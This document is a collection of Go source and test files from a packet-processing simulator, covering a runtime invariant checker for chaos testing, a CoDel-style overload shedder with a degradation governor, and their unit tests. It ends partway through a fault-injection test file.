// into the subsystems (gpu.Device, lb.Controller, netio.RxQueue, the worker
// pools). Every hook is nil-safe and allocation-free when no checker is
// attached, following the same contract as trace.Tracer, so the oracle adds
// zero cost to ordinary runs.
//
// Violations are recorded, not panicked: the chaos driver needs the run to
// finish (or be watchdog-stopped) so it can report, shrink and write a
// reproducer. Violations are appended in dispatch order and capped per
// check, so a badly broken build produces a bounded, deterministic report.
//
// The invariant catalogue (see DESIGN.md §10):
//
//	time.monotonic  — engine dispatch timestamps never decrease
//	gpu.phase       — per-task phase chain submit ≤ host ≤ H2D ≤ kernel ≤ D2H
//	gpu.util        — kernel/copy engine busy time ≤ the device's active span
//	lb.bounds       — the offloading fraction W stays in [0,1]
//	lb.collapse     — a control step that observed task failures collapses W
//	rxq.accounting  — delivered + dropped ≤ arrivals; backlog ≤ capacity
//	pool.drained    — every mempool has Outstanding == 0 after the drain
//	conservation    — every delivered packet is exactly once TX'd, dropped,
//	                  shed (dropped by overload control: CoDel or admission
//	                  rejection at LevelShed) or quarantined (dropped by the
//	                  integrity sentinel after a corruption mismatch)
//	queue.bound     — a bounded interior queue (device task queue) never
//	                  exceeds its configured depth
//	drain.stuck     — the run drained within the post-stop grace window
//	conservation.epoch — the conservation identity holds at every
//	                  reconfiguration epoch boundary (evict seal)
//	reconfig.orphan — every reconfiguration epoch that began also committed;
//	                  no lane is left quiesced at end of run
//	corrupt.leak    — a payload tainted by a DeviceCorrupt fault never
//	                  reaches TX while the integrity sentinel is armed
package invariant

import (
	"fmt"
	"strings"

	"nba/internal/simtime"
)

// Check names, as recorded in Violation.Check.
const (
	CheckTimeMonotonic = "time.monotonic"
	CheckGPUPhase      = "gpu.phase"
	CheckGPUUtil       = "gpu.util"
	CheckLBBounds      = "lb.bounds"
	CheckLBCollapse    = "lb.collapse"
	CheckRxAccounting  = "rxq.accounting"
	CheckPoolDrained   = "pool.drained"
	CheckConservation  = "conservation"
	// CheckTenantConservation is the per-tenant slice of the conservation
	// identity: each tenant's delivered packets must individually equal its
	// transmitted + dropped + shed, so no tenant's loss can hide behind a
	// co-tenant's surplus in the global sum.
	CheckTenantConservation = "conservation.tenant"
	CheckDrainStuck         = "drain.stuck"
	CheckQueueBound         = "queue.bound"
	// CheckEpochConservation is the conservation identity evaluated at a
	// reconfiguration epoch boundary (tenant evict commit): everything the
	// evicted tenant's lanes were ever handed must be fully accounted —
	// transmitted, dropped or shed — before the handoff seals its digest.
	// A non-zero residue is a leaked (still-outstanding) pooled packet,
	// which is also how an evicted-tenant mempool leak manifests.
	CheckEpochConservation = "conservation.epoch"
	// CheckReconfigOrphan is the orphaned-lane check: every reconfiguration
	// epoch that began must commit, and no lane may be left quiesced
	// (draining) when the run ends — an orphaned lane holds packets no one
	// will ever drain.
	CheckReconfigOrphan = "reconfig.orphan"
	// CheckCorruptLeak is the corruption-containment check: a packet whose
	// payload was tainted by a DeviceCorrupt fault reached TX. With the
	// integrity sentinel armed at full sampling every corrupted aggregate
	// must be quarantined, so a leak means detection or containment failed.
	CheckCorruptLeak = "corrupt.leak"
	// CheckDeterminism is recorded by the chaos driver, not the runtime
	// hooks: two runs of the same case produced different trace digests.
	CheckDeterminism = "determinism"
)

// Violation is one observed invariant breach.
type Violation struct {
	// Check names the violated invariant (the Check* constants).
	Check string
	// At is the virtual time of the observation.
	At simtime.Time
	// Msg describes the breach with enough context to debug it.
	Msg string
}

func (v Violation) String() string {
	return fmt.Sprintf("[%s] at %v: %s", v.Check, v.At, v.Msg)
}

// maxPerCheck caps recorded violations per check so a badly broken build
// yields a bounded report; further breaches of the same check are counted
// but not stored.
const maxPerCheck = 16

// Checker is the runtime oracle for one run. The zero value is not usable;
// create with New. A nil *Checker is a valid disabled checker: every hook
// is a cheap no-op, mirroring the trace.Tracer contract.
type Checker struct {
	violations []Violation
	perCheck   [15]int // indexed by checkIndex; counts all breaches
	suppressed int

	lastDispatch simtime.Time
	haveDispatch bool

	// lb.collapse bookkeeping: a step that enters with pending failures must
	// collapse W before the next step (reactToFailures is the first thing a
	// control step does, so the expectation is discharged within the step).
	expectCollapse   bool
	expectCollapseAt simtime.Time
}

// New creates an empty checker.
func New() *Checker { return &Checker{} }

func checkIndex(check string) int {
	switch check {
	case CheckTimeMonotonic:
		return 0
	case CheckGPUPhase:
		return 1
	case CheckGPUUtil:
		return 2
	case CheckLBBounds:
		return 3
	case CheckLBCollapse:
		return 4
	case CheckRxAccounting:
		return 5
	case CheckPoolDrained:
		return 6
	case CheckConservation:
		return 7
	case CheckDrainStuck:
		return 8
	case CheckQueueBound:
		return 9
	case CheckTenantConservation:
		return 10
	case CheckEpochConservation:
		return 11
	case CheckReconfigOrphan:
		return 12
	case CheckCorruptLeak:
		return 13
	default:
		return 14
	}
}

// Violatef records one breach of the named check. Safe on a nil checker.
func (c *Checker) Violatef(at simtime.Time, check, format string, args ...any) {
	if c == nil {
		return
	}
	idx := checkIndex(check)
	c.perCheck[idx]++
	if c.perCheck[idx] > maxPerCheck {
		c.suppressed++
		return
	}
	c.violations = append(c.violations, Violation{Check: check, At: at, Msg: fmt.Sprintf(format, args...)})
}

// Violations returns the recorded breaches in observation order.
func (c *Checker) Violations() []Violation {
	if c == nil {
		return nil
	}
	return append([]Violation(nil), c.violations...)
}

// Suppressed returns how many breaches exceeded the per-check cap.
func (c *Checker) Suppressed() int {
	if c == nil {
		return 0
	}
	return c.suppressed
}

// Err summarises the recorded violations as one error, nil when the run was
// clean.
func (c *Checker) Err() error {
	if c == nil || len(c.violations) == 0 {
		return nil
	}
	var b strings.Builder
	fmt.Fprintf(&b, "invariant: %d violation(s)", len(c.violations))
	if c.suppressed > 0 {
		fmt.Fprintf(&b, " (+%d suppressed)", c.suppressed)
	}
	max := len(c.violations)
	if max > 3 {
		max = 3
	}
	for _, v := range c.violations[:max] {
		fmt.Fprintf(&b, "; %s", v.String())
	}
	return fmt.Errorf("%s", b.String())
}

// --- continuous hooks ---

// OnDispatch observes one engine event firing; dispatch timestamps must be
// non-decreasing (virtual time monotonicity).
func (c *Checker) OnDispatch(at simtime.Time) {
	if c == nil {
		return
	}
	if c.haveDispatch && at < c.lastDispatch {
		c.Violatef(at, CheckTimeMonotonic,
			"engine dispatched an event at %v after one at %v", at, c.lastDispatch)
	}
	c.lastDispatch = at
	c.haveDispatch = true
}

// GPUTask observes one scheduled device task's phase timeline. The command
// queue is a pipeline: each phase must start no earlier than its
// predecessor finished, and nothing may be scheduled before submission.
func (c *Checker) GPUTask(at simtime.Time, dev string, id uint64, submitted, hostDone, h2dDone, kernelDone, finish simtime.Time) {
	if c == nil {
		return
	}
	// Note: submitted can precede at — a task parked by a hang is
	// rescheduled at recovery time with its original submission timestamp.
	ok := submitted <= hostDone && hostDone <= h2dDone &&
		h2dDone <= kernelDone && kernelDone <= finish
	if !ok {
		c.Violatef(at, CheckGPUPhase,
			"device %s task %d phases out of order: submit %v host %v h2d %v kernel %v d2h %v",
			dev, id, submitted, hostDone, h2dDone, kernelDone, finish)
	}
}

// LBStep observes the entry of one adaptive control step: the current W
// must be in bounds, any collapse expectation from the previous step must
// have been discharged, and a step entering with pending task failures must
// collapse W (verified by LBCollapse before the next LBStep).
func (c *Checker) LBStep(at simtime.Time, w float64, pendingFails int) {
	if c == nil {
		return
	}
	if c.expectCollapse {
		c.Violatef(at, CheckLBCollapse,
			"control step at %v observed task failures but never collapsed W", c.expectCollapseAt)
		c.expectCollapse = false
	}
	c.checkW(at, w, "step entry")
	if pendingFails > 0 {
		c.expectCollapse = true
		c.expectCollapseAt = at
	}
}

// LBCollapse observes the failure-reaction path firing (W halved toward the
// CPU), discharging the expectation set by LBStep.
func (c *Checker) LBCollapse(at simtime.Time, w float64) {
	if c == nil {
		return
	}
	c.expectCollapse = false
	c.checkW(at, w, "failure collapse")
}

// LBUpdated observes W after a control step wrote it.
func (c *Checker) LBUpdated(at simtime.Time, w float64) {
	if c == nil {
		return
	}
	c.checkW(at, w, "step exit")
}

func (c *Checker) checkW(at simtime.Time, w float64, where string) {
	if w < 0 || w > 1 || w != w { // w != w catches NaN
		c.Violatef(at, CheckLBBounds, "offloading fraction W = %v at %s, want [0,1]", w, where)
	}
}

// RxQueue observes one RX queue's accounting after a poll: the queue can
// never have handed out or dropped more packets than arrived, and the
// surviving backlog can never exceed the ring capacity.
func (c *Checker) RxQueue(at simtime.Time, port, queue int, arrivals, delivered, dropped uint64, capacity int) {
	if c == nil {
		return
	}
	if delivered+dropped > arrivals {
		c.Violatef(at, CheckRxAccounting,
			"rxq %d/%d delivered %d + dropped %d exceeds arrivals %d",
			port, queue, delivered, dropped, arrivals)
		return
	}
	if backlog := arrivals - delivered - dropped; backlog > uint64(capacity) {
		c.Violatef(at, CheckRxAccounting,
			"rxq %d/%d backlog %d exceeds capacity %d", port, queue, backlog, capacity)
	}
}

// --- end-of-run hooks ---

// DeviceUtil checks that a device's accounted engine busy time fits inside
// its active span [0, lastFinish]: a kernel engine or the single half-duplex
// copy engine scheduled beyond 100% utilization means double-booked time.
func (c *Checker) DeviceUtil(at simtime.Time, dev string, kernelBusy, copyBusy, lastFinish simtime.Time) {
	if c == nil || lastFinish <= 0 {
		return
	}
	if kernelBusy > lastFinish {
		c.Violatef(at, CheckGPUUtil,
			"device %s kernel engine busy %v over active span %v (util %.2f > 1)",
			dev, kernelBusy, lastFinish, float64(kernelBusy)/float64(lastFinish))
	}
	if copyBusy > lastFinish {
		c.Violatef(at, CheckGPUUtil,
			"device %s copy engine busy %v over active span %v (util %.2f > 1)",
			dev, copyBusy, lastFinish, float64(copyBusy)/float64(lastFinish))
	}
}

// PoolDrained records a mempool.AssertDrained failure.
func (c *Checker) PoolDrained(at simtime.Time, err error) {
	if c == nil || err == nil {
		return
	}
	c.Violatef(at, CheckPoolDrained, "%v", err)
}

// Conservation checks end-of-run packet conservation: every buffer the NIC
// layer materialised was either transmitted, dropped in the graph, shed by
// overload control, or quarantined by the integrity sentinel — each exactly
// once. (Double accounting shows up as the accounted sum exceeding
// delivered; a leak shows up as the opposite plus a pool.drained breach.)
func (c *Checker) Conservation(at simtime.Time, delivered, transmitted, dropped, shed, quarantined uint64) {
	if c == nil {
		return
	}
	if delivered != transmitted+dropped+shed+quarantined {
		c.Violatef(at, CheckConservation,
			"delivered %d != transmitted %d + dropped %d + shed %d + quarantined %d (diff %+d)",
			delivered, transmitted, dropped, shed, quarantined,
			int64(transmitted+dropped+shed+quarantined)-int64(delivered))
	}
}

// EpochConservation checks the conservation identity at a reconfiguration
// epoch boundary: an evicted tenant's handoff may only seal once everything
// its lanes were handed is accounted. epoch and name identify the boundary
// in the violation message; a positive residue (delivered minus the
// accounted sum) is a leaked pooled packet.
func (c *Checker) EpochConservation(at simtime.Time, epoch int, name string, delivered, transmitted, dropped, shed, quarantined uint64) {
	if c == nil {
		return
	}
	if delivered != transmitted+dropped+shed+quarantined {
		c.Violatef(at, CheckEpochConservation,
			"epoch %d tenant %s: delivered %d != transmitted %d + dropped %d + shed %d + quarantined %d at evict seal (residue %+d)",
			epoch, name, delivered, transmitted, dropped, shed, quarantined,
			int64(delivered)-int64(transmitted+dropped+shed+quarantined))
	}
}

// OrphanLane records a reconfiguration orphan: an epoch that began but
// never committed, or a lane still quiesced when the run ended. detail
// describes what was stranded.
func (c *Checker) OrphanLane(at simtime.Time, epoch int, detail string) {
	if c == nil {
		return
	}
	c.Violatef(at, CheckReconfigOrphan, "epoch %d: %s", epoch, detail)
}

// TenantConservation checks one tenant's slice of the conservation identity
// at end of run (same caveats as Conservation). name identifies the tenant
// in the violation message.
func (c *Checker) TenantConservation(at simtime.Time, name string, delivered, transmitted, dropped, shed, quarantined uint64) {
	if c == nil {
		return
	}
	if delivered != transmitted+dropped+shed+quarantined {
		c.Violatef(at, CheckTenantConservation,
			"tenant %s: delivered %d != transmitted %d + dropped %d + shed %d + quarantined %d (diff %+d)",
			name, delivered, transmitted, dropped, shed, quarantined,
			int64(transmitted+dropped+shed+quarantined)-int64(delivered))
	}
}

// CorruptLeak records a corruption-containment breach: a packet whose
// payload a DeviceCorrupt fault tainted was transmitted. Called from the TX
// path only while the integrity sentinel is armed (a disarmed run is allowed
// to leak — that is precisely the failure mode the sentinel exists to stop).
func (c *Checker) CorruptLeak(at simtime.Time, worker int, seq uint64) {
	if c == nil {
		return
	}
	c.Violatef(at, CheckCorruptLeak,
		"worker %d transmitted corrupted packet seq %d with the sentinel armed", worker, seq)
}

// DeviceQueue observes a bounded device task queue's occupancy after an
// accepted submission: admission control must keep the queue at or below its
// configured depth. A non-positive depth means the queue is unbounded and
// nothing is checked.
func (c *Checker) DeviceQueue(at simtime.Time, dev string, queued, depth int) {
	if c == nil || depth <= 0 {
		return
	}
	if queued > depth {
		c.Violatef(at, CheckQueueBound,
			"device %s task queue at %d, over configured depth %d", dev, queued, depth)
	}
}

// StuckDrain records that the run failed to drain within the watchdog grace
// window and was force-stopped.
func (c *Checker) StuckDrain(at simtime.Time, workers int) {
	if c == nil {
		return
	}
	c.Violatef(at, CheckDrainStuck,
		"%d worker(s) still undrained at stop+grace; run force-stopped", workers)
}

// EndOfRun discharges pending cross-step expectations; call it after the
// engine stopped and all other end-of-run checks ran.
func (c *Checker) EndOfRun(at simtime.Time) {
	if c == nil {
		return
	}
	if c.expectCollapse {
		c.Violatef(at, CheckLBCollapse,
			"control step at %v observed task failures but never collapsed W (run ended)", c.expectCollapseAt)
		c.expectCollapse = false
	}
}
