// Package overload is the end-to-end overload-control subsystem: it makes
// every datapath stage bounded and backpressure-aware in virtual time.
//
// The paper's adaptive load balancer (§3.4) assumes every stage keeps up on
// average; under sustained overload that assumption breaks and unbounded
// interior queues (device task queues, offload aggregates) silently absorb
// the excess, inflating memory and tail latency instead of degrading
// gracefully. This package provides the three mechanisms the framework
// composes into graceful degradation:
//
//   - Config — the knobs: a device task-queue depth (admission control at
//     gpu.Device.Submit; rejected tasks are rescued on the CPU or shed),
//     CoDel target/interval for the worker-side sojourn shedder, and the
//     governor's window and hysteresis.
//   - CoDel — a deterministic CoDel-style shedder driven entirely by the
//     virtual clock: packets whose RX-ring sojourn stays above the target
//     for a full interval are dropped at increasing rate (the classic
//     interval/sqrt(count) control law) until the standing queue drains.
//     No wall time anywhere, so runs stay bit-reproducible.
//   - Governor — a per-socket state machine reacting to sustained
//     saturation with stepwise graceful degradation: Normal → Trim (shrink
//     the offload aggregation age) → Bias (clamp the ALB weight toward the
//     uncongested processor) → Shed (admission rejections are dropped
//     instead of rescued), stepping back up after sustained recovery.
//
// Everything here is pure state-machine logic; the wiring lives in
// internal/core (worker/system), internal/gpu (admission) and internal/lb
// (weight bounds).
package overload

import (
	"math"

	"nba/internal/simtime"
)

// Config arms the overload-control subsystem for a run. The zero value of
// each field selects its default; negative CoDelTarget disables the sojourn
// shedder and non-positive DeviceQueueDepth leaves the device queue
// unbounded.
type Config struct {
	// DeviceQueueDepth bounds a device's task queue (scheduled + parked
	// tasks). Submissions beyond it are refused before any accounting;
	// the worker rescues the aggregate on the CPU, or sheds it when the
	// governor has reached LevelShed. Default 64; negative = unbounded.
	DeviceQueueDepth int
	// CoDelTarget is the acceptable standing RX sojourn. A polled packet
	// whose queueing delay stayed above the target for a full interval is
	// shed ahead of pipeline processing. Default 50 µs; negative disables.
	CoDelTarget simtime.Time
	// CoDelInterval is the CoDel control interval. Default 10 × target.
	CoDelInterval simtime.Time
	// GovernorWindow is the saturation-observation cadence of the governor.
	// Default 250 µs.
	GovernorWindow simtime.Time
	// StepDown is how many consecutive saturated windows trigger one level
	// of degradation; StepUp how many consecutive clear windows recover one
	// level. The asymmetry (default 2 down, 8 up) gives the boundary
	// hysteresis the no-oscillation property tests pin.
	StepDown int
	StepUp   int
	// TrimAgeScale scales the offload aggregation age at LevelTrim and
	// beyond (default 0.5: aggregates flush at half their nominal age).
	TrimAgeScale float64
	// BiasStep is how far each saturated window at LevelBias ratchets the
	// ALB weight bound toward the uncongested processor. Default 0.1.
	BiasStep float64
}

// WithDefaults fills unset fields, returning a copy.
func (c Config) WithDefaults() Config {
	if c.DeviceQueueDepth == 0 {
		c.DeviceQueueDepth = 64
	}
	if c.DeviceQueueDepth < 0 {
		c.DeviceQueueDepth = 0 // unbounded
	}
	if c.CoDelTarget == 0 {
		c.CoDelTarget = 50 * simtime.Microsecond
	}
	if c.CoDelTarget < 0 {
		c.CoDelTarget = 0 // disabled
	}
	if c.CoDelInterval <= 0 {
		c.CoDelInterval = 10 * c.CoDelTarget
	}
	if c.GovernorWindow <= 0 {
		c.GovernorWindow = 250 * simtime.Microsecond
	}
	if c.StepDown <= 0 {
		c.StepDown = 2
	}
	if c.StepUp <= 0 {
		c.StepUp = 8
	}
	if c.TrimAgeScale <= 0 || c.TrimAgeScale > 1 {
		c.TrimAgeScale = 0.5
	}
	if c.BiasStep <= 0 {
		c.BiasStep = 0.1
	}
	return c
}

// Defaults returns a fully-defaulted config, the canonical "armed" value.
func Defaults() *Config {
	c := Config{}.WithDefaults()
	return &c
}

// Level is the governor's degradation state, ordered by severity.
type Level int

const (
	// LevelNormal: no reaction; all mechanisms at nominal settings.
	LevelNormal Level = iota
	// LevelTrim: offload aggregates flush at TrimAgeScale of their nominal
	// age, so packets stop maturing behind a congested device.
	LevelTrim
	// LevelBias: additionally, the ALB weight bounds ratchet toward the
	// uncongested processor each saturated window.
	LevelBias
	// LevelShed: additionally, admission-rejected aggregates are dropped
	// (accounted as shed) instead of rescued on the CPU.
	LevelShed
)

func (l Level) String() string {
	switch l {
	case LevelNormal:
		return "normal"
	case LevelTrim:
		return "trim"
	case LevelBias:
		return "bias"
	case LevelShed:
		return "shed"
	default:
		return "unknown"
	}
}

// Governor is the per-socket overload state machine. It degrades one level
// after StepDown consecutive saturated windows and recovers one level after
// StepUp consecutive clear windows; either streak resets on the opposite
// observation, so an alternating signal at the boundary holds the level
// steady instead of oscillating.
type Governor struct {
	stepDown, stepUp int

	level       Level
	peak        Level
	satStreak   int
	clearStreak int
}

// NewGovernor creates a governor with the config's hysteresis.
func NewGovernor(cfg Config) *Governor {
	cfg = cfg.WithDefaults()
	return &Governor{stepDown: cfg.StepDown, stepUp: cfg.StepUp}
}

// Level returns the current degradation level.
func (g *Governor) Level() Level { return g.level }

// Peak returns the most severe level reached so far.
func (g *Governor) Peak() Level { return g.peak }

// Observe folds one saturation observation (one governor window) and
// returns the resulting level and whether this observation changed it.
func (g *Governor) Observe(saturated bool) (Level, bool) {
	if saturated {
		g.clearStreak = 0
		g.satStreak++
		if g.satStreak >= g.stepDown && g.level < LevelShed {
			g.satStreak = 0
			g.level++
			if g.level > g.peak {
				g.peak = g.level
			}
			return g.level, true
		}
		return g.level, false
	}
	g.satStreak = 0
	g.clearStreak++
	if g.clearStreak >= g.stepUp && g.level > LevelNormal {
		g.clearStreak = 0
		g.level--
		return g.level, true
	}
	return g.level, false
}

// CoDel is a deterministic CoDel-style shedder on the virtual clock (the
// classic algorithm, with packet sojourn supplied by the caller): once the
// observed sojourn has stayed at or above Target for a full Interval, it
// starts dropping, with successive drops spaced Interval/sqrt(count) apart
// so the drop rate grows until the standing queue drains below Target.
//
// math.Sqrt is exactly specified by IEEE 754, so the shedder is bit-stable
// across platforms — it introduces no nondeterminism into the run.
type CoDel struct {
	// Target / Interval are the control parameters (Config.CoDelTarget /
	// CoDelInterval). A zero Target never drops.
	Target   simtime.Time
	Interval simtime.Time

	firstAbove simtime.Time // when sojourn first exceeded Target; 0 = below
	dropNext   simtime.Time // next scheduled drop while in dropping state
	dropping   bool
	count      int // drops in the current dropping episode
}

// ShouldDrop decides the fate of one packet with the given queueing sojourn
// observed at virtual time now. It must be called in arrival order.
func (c *CoDel) ShouldDrop(now, sojourn simtime.Time) bool {
	if c.Target <= 0 {
		return false
	}
	if sojourn < c.Target {
		// Below target: leave the dropping state and restart the grace
		// interval from scratch.
		c.firstAbove = 0
		c.dropping = false
		return false
	}
	if c.firstAbove == 0 {
		// First packet above target: arm the interval, drop nothing yet.
		c.firstAbove = now + c.Interval
		return false
	}
	if !c.dropping {
		if now < c.firstAbove {
			return false // still inside the grace interval
		}
		// Sojourn stayed above target for a full interval: start dropping.
		// Resume the previous episode's drop rate when the queue rebuilt
		// quickly (within 8 intervals), per the reference algorithm.
		c.dropping = true
		if c.count > 2 && now-c.dropNext < 8*c.Interval {
			c.count -= 2
		} else {
			c.count = 1
		}
		c.dropNext = c.controlLaw(now)
		return true
	}
	if now >= c.dropNext {
		c.count++
		c.dropNext = c.controlLaw(c.dropNext)
		return true
	}
	return false
}

// controlLaw spaces the next drop Interval/sqrt(count) after base.
func (c *CoDel) controlLaw(base simtime.Time) simtime.Time {
	return base + simtime.Time(float64(c.Interval)/math.Sqrt(float64(c.count)))
}
