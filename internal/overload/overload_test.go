package overload

import (
	"testing"

	"nba/internal/simtime"
)

const us = simtime.Microsecond

func TestConfigDefaults(t *testing.T) {
	c := Config{}.WithDefaults()
	if c.DeviceQueueDepth != 64 || c.CoDelTarget != 50*us || c.CoDelInterval != 500*us {
		t.Fatalf("unexpected defaults: %+v", c)
	}
	if c.StepDown != 2 || c.StepUp != 8 || c.TrimAgeScale != 0.5 || c.BiasStep != 0.1 {
		t.Fatalf("unexpected defaults: %+v", c)
	}
	if c.GovernorWindow != 250*us {
		t.Fatalf("governor window %v", c.GovernorWindow)
	}
	// Negative values mean "disabled", normalised to zero.
	d := Config{DeviceQueueDepth: -1, CoDelTarget: -1}.WithDefaults()
	if d.DeviceQueueDepth != 0 || d.CoDelTarget != 0 {
		t.Fatalf("disabled fields not normalised: %+v", d)
	}
}

func TestLevelStrings(t *testing.T) {
	want := map[Level]string{LevelNormal: "normal", LevelTrim: "trim", LevelBias: "bias", LevelShed: "shed", Level(9): "unknown"}
	for l, s := range want {
		if l.String() != s {
			t.Errorf("Level(%d).String() = %q, want %q", l, l.String(), s)
		}
	}
}

// Property: under sustained saturation the governor steps down monotonically,
// one level per StepDown windows, and parks at LevelShed.
func TestGovernorMonotoneStepDown(t *testing.T) {
	cfg := Config{}.WithDefaults()
	g := NewGovernor(cfg)
	prev := g.Level()
	changes := 0
	for i := 0; i < 10*cfg.StepDown; i++ {
		lvl, changed := g.Observe(true)
		if lvl < prev {
			t.Fatalf("level rose from %v to %v under sustained saturation", prev, lvl)
		}
		if changed {
			changes++
			if lvl != prev+1 {
				t.Fatalf("level jumped from %v to %v; want single steps", prev, lvl)
			}
			wantAt := changes * cfg.StepDown
			if i+1 != wantAt {
				t.Fatalf("step %d fired after %d windows, want %d", changes, i+1, wantAt)
			}
		}
		prev = lvl
	}
	if g.Level() != LevelShed || g.Peak() != LevelShed {
		t.Fatalf("level %v peak %v after sustained saturation, want shed", g.Level(), g.Peak())
	}
	// Further saturation holds the floor.
	if lvl, changed := g.Observe(true); lvl != LevelShed || changed {
		t.Fatalf("parked level moved: %v changed=%v", lvl, changed)
	}
}

// Property: after full degradation, sustained recovery steps all the way back
// up to LevelNormal, one level per StepUp windows.
func TestGovernorFullStepUp(t *testing.T) {
	cfg := Config{}.WithDefaults()
	g := NewGovernor(cfg)
	for g.Level() != LevelShed {
		g.Observe(true)
	}
	windows := 0
	for g.Level() != LevelNormal {
		if _, changed := g.Observe(false); changed {
			if windows%cfg.StepUp != cfg.StepUp-1 {
				t.Fatalf("recovery step after %d clear windows, want multiples of %d", windows+1, cfg.StepUp)
			}
		}
		windows++
		if windows > 100 {
			t.Fatal("governor never recovered")
		}
	}
	if windows != 3*cfg.StepUp {
		t.Fatalf("full recovery took %d windows, want %d", windows, 3*cfg.StepUp)
	}
	if g.Peak() != LevelShed {
		t.Fatalf("peak %v lost across recovery", g.Peak())
	}
	// Clear windows at LevelNormal are a no-op.
	if lvl, changed := g.Observe(false); lvl != LevelNormal || changed {
		t.Fatalf("normal level moved: %v changed=%v", lvl, changed)
	}
}

// Property: an alternating saturated/clear signal at a level boundary never
// oscillates — both streak counters reset on the opposite observation, so
// neither threshold is ever reached (mirrors the ALB boundary-dwell tests).
func TestGovernorNoOscillationAtBoundary(t *testing.T) {
	cfg := Config{}.WithDefaults()
	for _, start := range []int{2 * cfg.StepDown, 4 * cfg.StepDown} { // LevelTrim.. boundaries
		g := NewGovernor(cfg)
		for i := 0; i < start; i++ {
			g.Observe(true)
		}
		at := g.Level()
		for i := 0; i < 200; i++ {
			lvl, changed := g.Observe(i%2 == 0)
			if changed || lvl != at {
				t.Fatalf("alternating signal moved level from %v to %v at step %d", at, lvl, i)
			}
		}
	}
}

// Property: a recovery streak is voided by a single saturated window (and
// vice versa) — hysteresis counts consecutive windows only.
func TestGovernorStreaksReset(t *testing.T) {
	cfg := Config{}.WithDefaults()
	g := NewGovernor(cfg)
	for g.Level() != LevelBias {
		g.Observe(true)
	}
	// StepUp-1 clear windows, then one saturated: no recovery may fire.
	for i := 0; i < cfg.StepUp-1; i++ {
		if _, changed := g.Observe(false); changed {
			t.Fatal("recovered before StepUp consecutive clear windows")
		}
	}
	if lvl, _ := g.Observe(true); lvl != LevelBias {
		t.Fatalf("level %v after voided recovery streak, want bias", lvl)
	}
	// The saturated window above also restarts the degradation streak.
	if _, changed := g.Observe(true); !changed {
		t.Fatal("degradation streak did not resume after reset")
	}
}

func TestCoDelBelowTargetNeverDrops(t *testing.T) {
	c := CoDel{Target: 50 * us, Interval: 500 * us}
	for now := simtime.Time(0); now < 100*simtime.Millisecond; now += 10 * us {
		if c.ShouldDrop(now, 49*us) {
			t.Fatalf("dropped below target at %v", now)
		}
	}
	// Disabled shedder (zero target) never drops either.
	d := CoDel{}
	if d.ShouldDrop(simtime.Millisecond, simtime.Second) {
		t.Fatal("zero-target CoDel dropped")
	}
}

func TestCoDelDropsAfterSustainedSojourn(t *testing.T) {
	c := CoDel{Target: 50 * us, Interval: 500 * us}
	var drops []simtime.Time
	for now := simtime.Time(0); now < 10*simtime.Millisecond; now += 10 * us {
		if c.ShouldDrop(now, 200*us) {
			drops = append(drops, now)
		}
	}
	if len(drops) < 3 {
		t.Fatalf("only %d drops under sustained overload", len(drops))
	}
	// Nothing sheds inside the first grace interval.
	if drops[0] < c.Interval {
		t.Fatalf("first drop at %v, inside the %v grace interval", drops[0], c.Interval)
	}
	// The control law accelerates: successive drop gaps shrink, modulo the
	// 10 µs poll grid the decisions are sampled on.
	for i := 2; i < len(drops); i++ {
		if gap, prev := drops[i]-drops[i-1], drops[i-1]-drops[i-2]; gap > prev+10*us {
			t.Fatalf("drop gap grew from %v to %v; control law must accelerate", prev, gap)
		}
	}
	if first, last := drops[1]-drops[0], drops[len(drops)-1]-drops[len(drops)-2]; last >= first {
		t.Fatalf("late drop gap %v not below early gap %v", last, first)
	}
}

func TestCoDelRecoversWhenQueueDrains(t *testing.T) {
	c := CoDel{Target: 50 * us, Interval: 500 * us}
	now := simtime.Time(0)
	for ; now < 5*simtime.Millisecond; now += 10 * us {
		c.ShouldDrop(now, 200*us)
	}
	// Queue drained: the very next below-target packet ends the episode.
	if c.ShouldDrop(now, 10*us) {
		t.Fatal("dropped a below-target packet")
	}
	// And the grace interval restarts: an isolated above-target packet is
	// not dropped immediately.
	if c.ShouldDrop(now+10*us, 200*us) {
		t.Fatal("dropped before a fresh interval elapsed")
	}
}

func TestCoDelDeterministic(t *testing.T) {
	run := func() []bool {
		c := CoDel{Target: 50 * us, Interval: 500 * us}
		var out []bool
		for now := simtime.Time(0); now < 3*simtime.Millisecond; now += 7 * us {
			soj := 30 * us
			if (now/us)%3 == 0 {
				soj = 300 * us
			}
			out = append(out, c.ShouldDrop(now, soj))
		}
		return out
	}
	a, b := run(), run()
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("decision %d differs across identical replays", i)
		}
	}
}
