package fault

import (
	"strings"
	"testing"

	"nba/internal/simtime"
)

func TestKindStrings(t *testing.T) {
	for k := Kind(0); k < numKinds; k++ {
		if k.String() == "unknown" || k.String() == "" {
			t.Errorf("kind %d has no name", k)
		}
	}
	if Kind(200).String() != "unknown" {
		t.Errorf("out-of-range kind should stringify as unknown")
	}
}

func TestIsRecovery(t *testing.T) {
	want := map[Kind]bool{
		DeviceFail: false, DeviceRecover: true, DeviceSlowdown: false,
		DeviceHang: false, RxQueueDown: false, RxQueueUp: true, RateBurst: false,
	}
	for k, w := range want {
		if k.IsRecovery() != w {
			t.Errorf("%s: IsRecovery = %v, want %v", k, k.IsRecovery(), w)
		}
	}
}

func TestValidate(t *testing.T) {
	ms := simtime.Millisecond
	cases := []struct {
		name string
		ev   Event
		err  string // substring of the expected error, "" for valid
	}{
		{"fail ok", Event{At: ms, Kind: DeviceFail, Device: 1}, ""},
		{"fail bad device", Event{At: ms, Kind: DeviceFail, Device: 2}, "device 2 of 2"},
		{"negative device", Event{At: ms, Kind: DeviceHang, Device: -1}, "device -1"},
		{"negative time", Event{At: -1, Kind: DeviceFail}, "negative time"},
		{"slowdown ok", Event{At: ms, Kind: DeviceSlowdown, Device: 0, KernelFactor: 2}, ""},
		{"slowdown negative", Event{At: ms, Kind: DeviceSlowdown, Device: 0, CopyFactor: -1}, "negative slowdown"},
		{"rxq ok", Event{At: ms, Kind: RxQueueDown, Port: 3, Queue: -1}, ""},
		{"rxq bad port", Event{At: ms, Kind: RxQueueDown, Port: 4}, "port 4 of 4"},
		{"rxq bad queue", Event{At: ms, Kind: RxQueueUp, Port: 0, Queue: 2}, "queue 2 of 2"},
		{"burst ok", Event{At: ms, Kind: RateBurst, RateFactor: 3}, ""},
		{"burst negative", Event{At: ms, Kind: RateBurst, RateFactor: -0.5}, "negative rate"},
		{"unknown kind", Event{At: ms, Kind: numKinds}, "unknown kind"},
	}
	for _, c := range cases {
		p := Plan{Events: []Event{c.ev}}
		err := p.Validate(2, 4, 2)
		if c.err == "" {
			if err != nil {
